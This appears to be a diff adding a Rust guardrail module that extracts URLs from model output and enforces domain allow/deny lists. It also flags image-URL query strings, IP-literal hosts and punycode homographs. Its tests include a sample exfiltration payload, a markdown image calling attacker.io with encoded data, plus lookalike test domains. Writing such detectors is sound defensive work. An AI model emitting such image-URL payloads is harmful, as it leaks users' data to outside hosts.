@@ -0,0 +1,600 @@
+use crate::{
+    error::CliError,
+    guardrails::{
+        config::default_true,
+        provider::{
+            GuardrailProvider, GuardrailResult, ProviderSpecificResult, Severity, Violation,
+        },
+    },
+};
+use async_trait::async_trait;
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::{
+    collections::HashSet,
+    net::{Ipv4Addr, Ipv6Addr},
+};
+
+/// Rule name for a URL whose host is on the deny list
+pub const RULE_DENIED_DOMAIN: &str = "DENIED_DOMAIN";
+/// Rule name for a URL whose host is not on the allow list
+pub const RULE_DOMAIN_NOT_ALLOWED: &str = "DOMAIN_NOT_ALLOWED";
+/// Rule name for an image URL with a query string (data exfiltration channel)
+pub const RULE_IMAGE_QUERY_STRING: &str = "IMAGE_QUERY_STRING";
+/// Rule name for a URL whose host is an IP address
+pub const RULE_IP_LITERAL_HOST: &str = "IP_LITERAL_HOST";
+/// Rule name for a URL whose host contains punycode (`xn--`) labels
+pub const RULE_PUNYCODE_HOST: &str = "PUNYCODE_HOST";
+
+/// Top-level domains recognized for bare hosts (`example.com` without a scheme).
+/// Kept short on purpose: file names such as `main.rs` or `notes.md` must not match.
+const BARE_HOST_TLDS: &str = "com|net|org|edu|gov|mil|int|io|ai|co|app|dev|info|biz|me|us|uk|ca|\
+de|fr|es|it|nl|ru|cn|jp|in|br|au|xyz|top|site|online|club|shop|store|tech|link|click|live|ly|gl|\
+tk|ml|ga|cf|gq|cc|tv|ws|xn--[a-z0-9-]+";
+
+/// Markdown inline link or image: `[text](url)` / `![alt](url)`
+static MARKDOWN_LINK: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r#"(!?)\[[^\[\]]*\]\(\s*<?([^\s<>()]+)>?(?:\s+"[^"]*")?\s*\)"#).unwrap()
+});
+
+/// Markdown reference image: `![alt][label]` or `![alt][]`
+static MARKDOWN_REFERENCE_IMAGE: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"!\[([^\[\]]*)\]\[([^\[\]]*)\]").unwrap());
+
+/// Markdown reference definition: `[label]: url`
+static MARKDOWN_REFERENCE_DEFINITION: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"(?m)^[ \t]*\[([^\[\]]+)\]:[ \t]*<?([^\s<>]+)>?").unwrap());
+
+/// HTML image: `<img src="url">`
+static HTML_IMAGE: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r#"(?i)<img\b[^>]*?\bsrc\s*=\s*["']?([^"'\s>]+)"#).unwrap());
+
+/// URL with a scheme
+static BARE_URL: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s<>()\[\]"'`]+"#).unwrap());
+
+/// Host without a scheme, optionally with port and path
+static BARE_HOST: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(&format!(
+        r#"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{{0,61}}[a-z0-9])?\.)+(?:{BARE_HOST_TLDS})\b(?::\d{{1,5}})?(?:/[^\s<>()\[\]"'`]*)?"#
+    ))
+    .unwrap()
+});
+
+/// Configuration for the URL and domain policy guardrail
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct UrlPolicyConfig {
+    /// Domains URLs may point to (subdomains included); empty = any domain not denied
+    #[serde(default)]
+    pub allowed_domains: Vec<String>,
+
+    /// Domains URLs must not point to (subdomains included); checked before the allow list
+    #[serde(default)]
+    pub denied_domains: Vec<String>,
+
+    /// Reject image URLs with a query string (data exfiltration through image loads)
+    #[serde(default = "default_true")]
+    pub block_image_query_strings: bool,
+
+    /// Flag URLs whose host is an IP address
+    #[serde(default = "default_true")]
+    pub flag_ip_literals: bool,
+
+    /// Flag URLs whose host contains punycode labels (possible homograph attack)
+    #[serde(default = "default_true")]
+    pub flag_punycode: bool,
+
+    /// Also extract hosts written without a scheme (`example.com/path`)
+    #[serde(default = "default_true")]
+    pub detect_bare_hosts: bool,
+}
+
+impl Default for UrlPolicyConfig {
+    fn default() -> Self {
+        Self {
+            allowed_domains: vec![],
+            denied_domains: vec![],
+            block_image_query_strings: true,
+            flag_ip_literals: true,
+            flag_punycode: true,
+            detect_bare_hosts: true,
+        }
+    }
+}
+
+/// How a URL appears in the content
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum UrlKind {
+    /// Markdown link target or reference definition
+    Link,
+    /// Markdown or HTML image source (fetched automatically when rendered)
+    Image,
+    /// URL or host in plain text
+    Bare,
+}
+
+/// A URL found in the content
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ExtractedUrl {
+    /// URL as written
+    pub url: String,
+    /// Lowercase host (None for relative links and schemes without a host)
+    pub host: Option<String>,
+    /// How the URL appears
+    pub kind: UrlKind,
+    /// Byte offset where the URL starts in the content
+    pub start: usize,
+    /// Byte offset where the URL ends in the content (exclusive)
+    pub end: usize,
+}
+
+/// URL policy specific result
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct UrlPolicyResult {
+    /// Every URL found, in content order
+    pub urls: Vec<ExtractedUrl>,
+}
+
+/// URL and domain policy guardrail: extracts URLs from content and enforces
+/// domain allow/deny lists and checks for exfiltration and spoofing patterns
+pub struct UrlPolicyGuardrail {
+    config: UrlPolicyConfig,
+    allowed: Vec<String>,
+    denied: Vec<String>,
+}
+
+impl UrlPolicyGuardrail {
+    pub fn new(config: UrlPolicyConfig) -> Self {
+        let allowed = normalize_domains(&config.allowed_domains);
+        let denied = normalize_domains(&config.denied_domains);
+        Self {
+            config,
+            allowed,
+            denied,
+        }
+    }
+
+    /// Check every URL in the content against the policy
+    fn check(&self, content: &str) -> GuardrailResult {
+        let urls = extract_urls(content, self.config.detect_bare_hosts);
+        let violations = urls
+            .iter()
+            .flat_map(|url| self.check_url(url))
+            .collect::<Vec<_>>();
+
+        GuardrailResult::with_provider_specific(
+            violations.is_empty(),
+            violations,
+            vec![],
+            ProviderSpecificResult::UrlPolicy(UrlPolicyResult { urls }),
+        )
+    }
+
+    fn check_url(&self, url: &ExtractedUrl) -> Vec<Violation> {
+        let Some(host) = &url.host else {
+            return vec![];
+        };
+        let violation = |rule: &str, severity, message: String| Violation {
+            rule: rule.to_string(),
+            severity,
+            message,
+            location: Some(format!("Position {}-{}", url.start, url.end)),
+            provider: None,
+        };
+
+        let mut violations = vec![];
+        if let Some(domain) = matching_domain(host, &self.denied) {
+            violations.push(violation(
+                RULE_DENIED_DOMAIN,
+                Severity::High,
+                format!("URL points to denied domain '{domain}': {}", url.url),
+            ));
+        } else if !self.allowed.is_empty() && matching_domain(host, &self.allowed).is_none() {
+            violations.push(violation(
+                RULE_DOMAIN_NOT_ALLOWED,
+                Severity::High,
+                format!(
+                    "URL points to domain '{host}' not on the allow list: {}",
+                    url.url
+                ),
+            ));
+        }
+        if self.config.block_image_query_strings
+            && url.kind == UrlKind::Image
+            && query_string(&url.url).is_some_and(|q| !q.is_empty())
+        {
+            violations.push(violation(
+                RULE_IMAGE_QUERY_STRING,
+                Severity::Critical,
+                format!(
+                    "Image URL carries a query string (possible data exfiltration): {}",
+                    url.url
+                ),
+            ));
+        }
+        if self.config.flag_ip_literals && is_ip_literal(host) {
+            violations.push(violation(
+                RULE_IP_LITERAL_HOST,
+                Severity::Medium,
+                format!("URL host is an IP address: {}", url.url),
+            ));
+        }
+        if self.config.flag_punycode && host.split('.').any(|label| label.starts_with("xn--")) {
+            violations.push(violation(
+                RULE_PUNYCODE_HOST,
+                Severity::Medium,
+                format!(
+                    "URL host uses punycode (possible homograph attack): {}",
+                    url.url
+                ),
+            ));
+        }
+        violations
+    }
+}
+
+#[async_trait]
+impl GuardrailProvider for UrlPolicyGuardrail {
+    async fn validate(&self, content: &str) -> Result<GuardrailResult, CliError> {
+        Ok(self.check(content))
+    }
+
+    fn name(&self) -> &str {
+        "UrlPolicyGuardrail"
+    }
+}
+
+/// Lowercase domains without a leading `*.` or `.` and trailing `.`
+fn normalize_domains(domains: &[String]) -> Vec<String> {
+    domains
+        .iter()
+        .map(|d| {
+            d.trim()
+                .trim_start_matches("*.")
+                .trim_matches('.')
+                .to_lowercase()
+        })
+        .filter(|d| !d.is_empty())
+        .collect()
+}
+
+/// The listed domain that `host` equals or is a subdomain of
+fn matching_domain<'a>(host: &str, domains: &'a [String]) -> Option<&'a str> {
+    domains
+        .iter()
+        .find(|domain| {
+            host == domain.as_str()
+                || host
+                    .strip_suffix(domain.as_str())
+                    .is_some_and(|prefix| prefix.ends_with('.'))
+        })
+        .map(String::as_str)
+}
+
+/// IPv4/IPv6 addresses, including integer and hex IPv4 forms browsers accept
+fn is_ip_literal(host: &str) -> bool {
+    if host.starts_with('[') || host.parse::<Ipv6Addr>().is_ok() {
+        return true;
+    }
+    if host.parse::<Ipv4Addr>().is_ok() {
+        return true;
+    }
+    // `2130706433`, `0x7f.0.0.1`, `0177.0.0.1`: every label numeric
+    host.split('.').all(|label| {
+        let digits = label
+            .strip_prefix("0x")
+            .map(|hex| !hex.is_empty() && hex.chars().all(|c| c.is_ascii_hexdigit()));
+        digits.unwrap_or(!label.is_empty() && label.chars().all(|c| c.is_ascii_digit()))
+    })
+}
+
+/// Query string of a URL (between `?` and `#`)
+fn query_string(url: &str) -> Option<&str> {
+    let (_, rest) = url.split_once('?')?;
+    Some(rest.split('#').next().unwrap_or_default())
+}
+
+/// Lowercase host of a URL, or None for relative links and schemes without a host
+fn host_of(url: &str) -> Option<String> {
+    let after_scheme = match url.find("://") {
+        Some(idx)
+            if url[..idx]
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) =>
+        {
+            &url[idx + 3..]
+        }
+        _ => url.strip_prefix("//")?,
+    };
+    let authority = after_scheme
+        .split(['/', '?', '#', '\\'])
+        .next()
+        .unwrap_or_default();
+    // Drop credentials (`user:pass@host`)
+    let host_port = authority.rsplit('@').next().unwrap_or_default();
+    let host = if host_port.starts_with('[') {
+        // IPv6 literal: keep the brackets
+        host_port.split_inclusive(']').next().unwrap_or_default()
+    } else {
+        host_port.split(':').next().unwrap_or_default()
+    };
+    let host = host.trim_end_matches('.').to_lowercase();
+    (!host.is_empty()).then_some(host)
+}
+
+/// Find URLs in markdown links and images, HTML images, plain-text URLs and
+/// (optionally) bare hosts, in content order
+pub fn extract_urls(content: &str, detect_bare_hosts: bool) -> Vec<ExtractedUrl> {
+    let mut urls: Vec<ExtractedUrl> = vec![];
+    let push = |urls: &mut Vec<ExtractedUrl>, url: &str, start: usize, kind, host| {
+        let end = start + url.len();
+        if urls.iter().any(|u| start < u.end && u.start < end) {
+            return; // Already found through more specific syntax
+        }
+        urls.push(ExtractedUrl {
+            url: url.to_string(),
+            host,
+            kind,
+            start,
+            end,
+        });
+    };
+
+    // Reference labels used by images (`![alt][label]`; `![alt][]` uses the alt text)
+    let image_labels: HashSet<String> = MARKDOWN_REFERENCE_IMAGE
+        .captures_iter(content)
+        .map(|caps| {
+            let label = if caps[2].trim().is_empty() {
+                &caps[1]
+            } else {
+                &caps[2]
+            };
+            label.trim().to_lowercase()
+        })
+        .collect();
+
+    for caps in MARKDOWN_LINK.captures_iter(content) {
+        let target = caps.get(2).unwrap();
+        let kind = if caps[1].is_empty() {
+            UrlKind::Link
+        } else {
+            UrlKind::Image
+        };
+        push(
+            &mut urls,
+            target.as_str(),
+            target.start(),
+            kind,
+            host_of(target.as_str()),
+        );
+    }
+    for caps in MARKDOWN_REFERENCE_DEFINITION.captures_iter(content) {
+        let target = caps.get(2).unwrap();
+        let kind = if image_labels.contains(&caps[1].trim().to_lowercase()) {
+            UrlKind::Image
+        } else {
+            UrlKind::Link
+        };
+        push(
+            &mut urls,
+            target.as_str(),
+            target.start(),
+            kind,
+            host_of(target.as_str()),
+        );
+    }
+    for caps in HTML_IMAGE.captures_iter(content) {
+        let target = caps.get(1).unwrap();
+        push(
+            &mut urls,
+            target.as_str(),
+            target.start(),
+            UrlKind::Image,
+            host_of(target.as_str()),
+        );
+    }
+    for m in BARE_URL.find_iter(content) {
+        let url = trim_trailing_punctuation(m.as_str());
+        push(&mut urls, url, m.start(), UrlKind::Bare, host_of(url));
+    }
+    if detect_bare_hosts {
+        for m in BARE_HOST.find_iter(content) {
+            // Skip email addresses and file paths
+            if content[..m.start()].ends_with(['@', '/', '\\', '.']) {
+                continue;
+            }
+            let url = trim_trailing_punctuation(m.as_str());
+            push(
+                &mut urls,
+                url,
+                m.start(),
+                UrlKind::Bare,
+                host_of(&format!("//{url}")),
+            );
+        }
+    }
+
+    urls.sort_by_key(|u| u.start);
+    urls
+}
+
+/// Sentence punctuation after a plain-text URL is not part of it
+fn trim_trailing_punctuation(url: &str) -> &str {
+    url.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~'])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn guardrail(config: UrlPolicyConfig) -> UrlPolicyGuardrail {
+        UrlPolicyGuardrail::new(config)
+    }
+
+    fn rules(result: &GuardrailResult) -> Vec<&str> {
+        result.violations.iter().map(|v| v.rule.as_str()).collect()
+    }
+
+    #[test]
+    fn test_extract_markdown_links_and_images() {
+        let content = "See [docs](https://docs.example.com/guide \"Guide\") and \
+            ![logo](https://cdn.example.com/logo.png), or [home](/index.html).";
+        let urls = extract_urls(content, true);
+        assert_eq!(urls.len(), 3);
+
+        assert_eq!(urls[0].kind, UrlKind::Link);
+        assert_eq!(urls[0].host.as_deref(), Some("docs.example.com"));
+        assert_eq!(&content[urls[0].start..urls[0].end], urls[0].url);
+
+        assert_eq!(urls[1].kind, UrlKind::Image);
+        assert_eq!(urls[1].host.as_deref(), Some("cdn.example.com"));
+
+        assert_eq!(urls[2].url, "/index.html");
+        assert_eq!(urls[2].host, None);
+    }
+
+    #[test]
+    fn test_extract_reference_image_and_html_image() {
+        let content = "![chart][1]\n<img src=\"https://a.example.org/x.gif\">\n\n[1]: https://b.example.org/c.png?d=1";
+        let urls = extract_urls(content, false);
+        assert_eq!(urls.len(), 2);
+        assert!(urls.iter().all(|u| u.kind == UrlKind::Image));
+        assert_eq!(urls[1].host.as_deref(), Some("b.example.org"));
+    }
+
+    #[test]
+    fn test_extract_bare_urls_and_hosts() {
+        let content = "Visit https://example.com/a?b=c. Or try www.evil.io/login, \
+            mail bob@corp.com, and edit src/main.rs.";
+        let urls = extract_urls(content, true);
+        let found: Vec<&str> = urls.iter().map(|u| u.url.as_str()).collect();
+        assert_eq!(
+            found,
+            vec!["https://example.com/a?b=c", "www.evil.io/login"]
+        );
+        assert_eq!(urls[1].host.as_deref(), Some("www.evil.io"));
+
+        assert_eq!(extract_urls(content, false).len(), 1);
+    }
+
+    #[test]
+    fn test_host_of() {
+        assert_eq!(
+            host_of("https://user:pw@Example.COM.:8080/p").as_deref(),
+            Some("example.com")
+        );
+        assert_eq!(
+            host_of("//cdn.example.com/x").as_deref(),
+            Some("cdn.example.com")
+        );
+        assert_eq!(host_of("http://[::1]:80/").as_deref(), Some("[::1]"));
+        assert_eq!(host_of("mailto:bob@example.com"), None);
+        assert_eq!(host_of("#section"), None);
+    }
+
+    #[test]
+    fn test_ip_literals() {
+        assert!(is_ip_literal("127.0.0.1"));
+        assert!(is_ip_literal("[::1]"));
+        assert!(is_ip_literal("2130706433"));
+        assert!(is_ip_literal("0x7f.0.0.1"));
+        assert!(!is_ip_literal("example.com"));
+        assert!(!is_ip_literal("1.example.com"));
+    }
+
+    #[tokio::test]
+    async fn test_allow_list_with_subdomains() {
+        let guardrail = guardrail(UrlPolicyConfig {
+            allowed_domains: vec!["*.example.com".to_string()],
+            ..Default::default()
+        });
+        let ok = guardrail
+            .validate("[a](https://example.com) [b](https://docs.example.com/x)")
+            .await
+            .unwrap();
+        assert!(ok.passed);
+
+        let result = guardrail
+            .validate("[a](https://notexample.com/login)")
+            .await
+            .unwrap();
+        assert_eq!(rules(&result), vec![RULE_DOMAIN_NOT_ALLOWED]);
+        assert_eq!(
+            result.violations[0].location.as_deref(),
+            Some("Position 4-32")
+        );
+    }
+
+    #[tokio::test]
+    async fn test_deny_list_wins() {
+        let guardrail = guardrail(UrlPolicyConfig {
+            allowed_domains: vec!["example.com".to_string()],
+            denied_domains: vec!["evil.example.com".to_string()],
+            ..Default::default()
+        });
+        let result = guardrail
+            .validate("Go to https://login.evil.example.com/")
+            .await
+            .unwrap();
+        assert_eq!(rules(&result), vec![RULE_DENIED_DOMAIN]);
+    }
+
+    #[tokio::test]
+    async fn test_image_query_string_exfiltration() {
+        let guardrail = guardrail(UrlPolicyConfig::default());
+        let result = guardrail
+            .validate("![](https://attacker.io/p.png?data=c2VjcmV0)")
+            .await
+            .unwrap();
+        assert_eq!(rules(&result), vec![RULE_IMAGE_QUERY_STRING]);
+        assert_eq!(result.violations[0].severity, Severity::Critical);
+
+        // Links with query strings are not fetched automatically
+        let link = guardrail
+            .validate("[search](https://example.com/?q=rust)")
+            .await
+            .unwrap();
+        assert!(link.passed);
+    }
+
+    #[tokio::test]
+    async fn test_ip_and_punycode_hosts() {
+        let guardrail = guardrail(UrlPolicyConfig::default());
+        let result = guardrail
+            .validate("http://192.168.1.10/admin and https://xn--pple-43d.com/")
+            .await
+            .unwrap();
+        assert_eq!(
+            rules(&result),
+            vec![RULE_IP_LITERAL_HOST, RULE_PUNYCODE_HOST]
+        );
+
+        let relaxed = UrlPolicyGuardrail::new(UrlPolicyConfig {
+            flag_ip_literals: false,
+            flag_punycode: false,
+            ..Default::default()
+        });
+        assert!(
+            relaxed
+                .validate("http://192.168.1.10/admin and https://xn--pple-43d.com/")
+                .await
+                .unwrap()
+                .passed
+        );
+    }
+
+    #[tokio::test]
+    async fn test_provider_specific_lists_urls() {
+        let result = guardrail(UrlPolicyConfig::default())
+            .validate("No links here, just text.")
+            .await
+            .unwrap();
+        assert!(result.passed);
+        match result.provider_specific {
+            Some(ProviderSpecificResult::UrlPolicy(r)) => assert!(r.urls.is_empty()),
+            other => panic!("Expected UrlPolicy result, got {other:?}"),
+        }
+    }
+}